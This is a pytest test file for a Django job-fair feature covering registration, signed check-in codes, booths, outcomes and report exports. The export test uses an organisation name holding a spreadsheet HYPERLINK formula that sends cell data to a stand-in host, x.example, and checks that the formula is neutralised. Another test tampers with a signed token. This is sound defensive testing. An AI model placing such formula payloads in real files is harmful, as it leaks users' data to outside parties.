"""Job fairs and live-stream sessions: a clerk sets one up, an employer brings its published
postings, a seeker registers and gets a signed check-in code, the clerk scans it at the door
(forged, foreign and re-used codes refused, naming why), the employer records outcomes, and the
report counts employers, posts, visitors and agreements."""

from __future__ import annotations

import datetime as dt
import re

import pytest
from django.test import Client

from zhihui.market import actions, fairs
from zhihui.market.models import Fair, FairRegistration

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _keys(settings, tmp_path):
    settings.KEY_DIR = tmp_path / "keys"


def fair_data(**over):
    today = dt.date.today()
    data = {"name": "2026年春风行动济源专场招聘会", "kind": "spring", "starts_on": today.isoformat(),
            "ends_on": (today + dt.timedelta(days=1)).isoformat(), "venue": "济源市人力资源市场一楼大厅"}
    data.update(over)
    return data


@pytest.fixture
def published(make_posting, clerk):
    p = make_posting()
    actions.submit_posting(p.created_by, p)
    return actions.publish_posting(clerk, p)


def test_fair_from_setup_to_report_through_the_pages(clerk, employer, seeker_user, published, client_for):
    c = client_for(clerk)
    r = c.post("/market/fairs/new/", fair_data())
    assert r.status_code == 302
    fair = Fair.objects.get()
    assert "春风行动济源专场" in Client().get("/market/fairs/").content.decode()

    e = client_for(employer)
    e.post(f"/market/fairs/{fair.pk}/booth/", {"postings": [published.pk]})
    assert "叉车司机" in Client().get(f"/market/fairs/{fair.pk}/").content.decode()

    s = client_for(seeker_user)
    s.post(f"/market/fairs/{fair.pk}/register/")
    page = s.get(f"/market/fairs/{fair.pk}/").content.decode()
    assert "我的签到码" in page and "<svg" in page
    reg = FairRegistration.objects.get()
    token = fairs.ticket(reg)

    c = client_for(clerk)
    r = c.post(f"/market/fairs/{fair.pk}/checkin/", {"token": token})
    assert r.status_code == 200 and "签到成功" in r.content.decode() and "李明" in r.content.decode()
    r = c.post(f"/market/fairs/{fair.pk}/checkin/", {"token": token})
    assert "此人已签到过" in r.content.decode()

    e = client_for(employer)
    booth = fair.booths.get()
    assert "李明" in e.get(f"/market/fairs/{fair.pk}/").content.decode()  # checked-in visitors listed for outcomes
    e.post(f"/market/fairs/booths/{booth.pk}/outcome/", {"kind": "agreement", "registration": reg.pk})
    e.post(f"/market/fairs/booths/{booth.pk}/outcome/", {"kind": "interview", "count": "4"})

    body = client_for(clerk).get(f"/market/fairs/{fair.pk}/report/").content.decode()
    def cell(cls):
        return re.search(rf'class="{cls}">(\d+)<', body).group(1)
    assert (cell("fair-employers"), cell("fair-posts"), cell("fair-visitors"), cell("fair-agreements")) == ("1", "1", "1", "1")
    assert 'data-chart="fair-chart"' in body
    rep = fairs.report(fair)["totals"]
    assert rep["interview"] == 4 and rep["registered"] == 1


def test_forged_foreign_and_voided_codes_are_refused(clerk, seeker_user, catalogues):
    fair = fairs.save_fair(clerk, fair_data())
    other = fairs.save_fair(clerk, fair_data(name="民营企业招聘月", kind="private_month"))
    reg = fairs.register(seeker_user, fair)
    token = fairs.ticket(reg)
    import json

    from zhihui.talent import verify as v

    body, sig = token.split(".")
    payload = json.loads(v.b64url_decode(body))
    tampered = v.b64url_encode(json.dumps({**payload, "r": payload["r"] + 1}).encode()) + "." + sig
    c = Client()
    c.force_login(clerk)
    for bad, why in ((tampered, "签名无效"), ("hello", "格式错误"), (fairs.ticket(reg), None)):
        if why is None:
            break
        r = c.post(f"/market/fairs/{fair.pk}/checkin/", {"token": bad})
        assert r.status_code == 422 and why in r.content.decode()
    r = c.post(f"/market/fairs/{other.pk}/checkin/", {"token": token})
    assert r.status_code == 422 and "另一场活动" in r.content.decode()
    FairRegistration.objects.filter(pk=reg.pk).update(nonce="reissued")
    r = c.post(f"/market/fairs/{fair.pk}/checkin/", {"token": token})
    assert r.status_code == 422 and "已作废" in r.content.decode()
    # a 王屋英才 card token is not a ticket and a ticket is not a card
    from zhihui.talent import signing, verify

    card, _kid = signing.sign_card({"t": "card", "no": "X1"})
    r = c.post(f"/market/fairs/{fair.pk}/checkin/", {"token": card})
    assert r.status_code == 422 and "不是招聘会签到码" in r.content.decode()
    assert verify.verify_token(token, signing.public_keys()).reason != verify.OK


def test_form_errors_name_the_field_and_only_staff_set_up_fairs(clerk, employer, client_for):
    c = client_for(clerk)
    r = c.post("/market/fairs/new/", fair_data(kind="livestream", venue="", stream_url=""))
    assert r.status_code == 422 and 'data-field="stream_url"' in r.content.decode()
    r = c.post("/market/fairs/new/", fair_data(kind="cross_region"))
    assert r.status_code == 422 and 'data-field="partner_region"' in r.content.decode()
    r = c.post("/market/fairs/new/", fair_data(ends_on="2020-01-01"))
    assert r.status_code == 422 and 'data-field="ends_on"' in r.content.decode()
    r = c.post("/market/fairs/new/", fair_data(kind="livestream", venue="", stream_url="https://live.example.cn/jy"))
    assert r.status_code == 302
    assert client_for(employer).post("/market/fairs/new/", fair_data()).status_code == 403


def test_employer_brings_only_own_published_postings_and_records_only_at_own_booth(
        clerk, employer, other_employer, published, client_for):
    fair = fairs.save_fair(clerk, fair_data())
    r = client_for(other_employer).post(f"/market/fairs/{fair.pk}/booth/", {"postings": [published.pk]}, follow=True)
    assert "只能带本单位已发布的岗位参会" in r.content.decode()
    booth = fairs.take_booth(employer, fair, posting_ids=[published.pk])
    r = client_for(other_employer).post(f"/market/fairs/booths/{booth.pk}/outcome/", {"kind": "hire"})
    assert r.status_code == 404
    assert client_for(other_employer).get(f"/market/fairs/{fair.pk}/report/").status_code == 404


def test_fairs_api_lists_events_and_reports_to_staff(clerk, employer, seeker_user, published, client_for):
    fair = fairs.save_fair(clerk, fair_data())
    fairs.take_booth(employer, fair, posting_ids=[published.pk])
    fairs.register(seeker_user, fair)
    r = Client().get("/api/v1/market/fairs")
    assert r.status_code == 200
    row = r.json()[0]
    assert (row["name"], row["kind"], row["employers"], row["postings"]) == (fair.name, "spring", 1, [published.pk])
    r = client_for(clerk).get(f"/api/v1/market/fairs/{fair.pk}/report")
    assert r.status_code == 200 and r.json()["registered"] == 1 and r.json()["posts"] == 1
    assert client_for(employer).get(f"/api/v1/market/fairs/{fair.pk}/report").status_code == 403
    assert client_for(clerk).get("/api/v1/market/fairs/999999/report").status_code == 404


def test_report_downloads_as_excel_and_pdf_formula_safe_and_audited(clerk, employer, seeker_user, published, client_for):
    import io

    from openpyxl import load_workbook
    from pypdf import PdfReader

    from tests.factories import create_org
    from zhihui.core.audit import AuditEvent

    fair = fairs.save_fair(clerk, fair_data())
    fairs.take_booth(employer, fair, posting_ids=[published.pk], booth_no="A01")
    evil = create_org('=HYPERLINK("http://x.example/?"&A1,"点击")')
    fairs.take_booth(clerk, fair, organisation=evil, booth_no="B02")
    reg = fairs.register(seeker_user, fair)
    fairs.check_in(clerk, fair, fairs.ticket(reg))
    booth = fair.booths.get(booth_no="A01")
    fairs.record_outcome(employer, booth, "agreement", registration_id=reg.pk)
    c = client_for(clerk)
    assert 'href="?format=xlsx"' in c.get(f"/market/fairs/{fair.pk}/report/").content.decode()

    r = c.get(f"/market/fairs/{fair.pk}/report/?format=xlsx")
    assert r.status_code == 200 and r["Content-Disposition"].endswith('.xlsx"')
    wb = load_workbook(io.BytesIO(r.content))
    summary = {row[0]: row[1] for row in wb.worksheets[0].iter_rows(values_only=True) if row and row[0]}
    assert (summary["参会单位"], summary["岗位"], summary["入场人数(已签到)"], summary["达成就业意向"]) == (2, 1, 1, 1)
    rows = list(wb.worksheets[1].iter_rows(values_only=True))
    assert rows[0][:4] == ("展位号", "单位", "岗位", "招聘人数")
    names = [row[1] for row in rows[1:]]
    assert any(n.startswith("'=HYPERLINK(") for n in names)  # neutralised: text, not a formula
    assert not any(cell.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for cell in row)

    r = c.get(f"/market/fairs/{fair.pk}/report/?format=pdf")
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf" and r.content.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
    assert fair.name in text and "达成就业意向" in text and "A01" in text

    exports = AuditEvent.objects.filter(action="export", object_type="market.fair", object_id=str(fair.pk))
    assert sorted(e.summary.split("(")[1][:4] for e in exports) == ["pdf,", "xlsx"]
    # the same people who may read the report may download it; an employer may not
    assert client_for(employer).get(f"/market/fairs/{fair.pk}/report/?format=xlsx").status_code in (403, 404)
